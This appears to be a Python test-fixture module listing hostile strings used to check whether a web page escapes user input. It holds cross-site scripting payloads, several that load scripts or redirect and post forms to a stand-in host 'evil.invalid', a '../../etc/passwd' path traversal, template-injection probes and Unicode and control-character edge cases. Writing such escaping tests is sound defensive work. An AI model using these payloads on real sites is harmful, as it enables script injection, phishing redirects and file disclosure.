"""Texts that somebody may put into any column, in the hope that a page runs them, or falls over."""

from __future__ import annotations

#: Each would open a dialog if a page took it for more than text.
STRINGS: tuple[str, ...] = (
    # Elements.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.invalid/><button>Retry</button></form>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</text><svg onload=alert(1)><script>alert(1)</script></svg><text>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # Out of an attribute.
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "` onerror=alert(1) `",
    # Addresses.
    "javascript:alert(1)",
    "  jAvAsCrIpT&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.invalid/%2e%2e/?x=1#<script>alert(1)</script>",
    "../../../../etc/passwd",
    # Templates, and escapes of others.
    "{{ 7|add:7 }}{% load nothing %}{# gone #}",
    "{% endblock %}${alert(1)}#{alert(1)}<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # What is hard to show.
    "\u202eright to left\u2066 and no way back",
    "bell\x07 escape\x1b[31m back\x08 delete\x7f next\x85 line\u2028 paragraph\u2029 first\x01",
    "e\u0301\u0301\u0301 zero\u200bwidth \ufeff\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e8\U0001f1ed",
    "two\r\nlines\tand a tab",
    "nobody's <b>bold</b> & \"quoted\" 'words' \\ 100% a+b;c=d?e",
    "long " + "x" * 3_000,
)
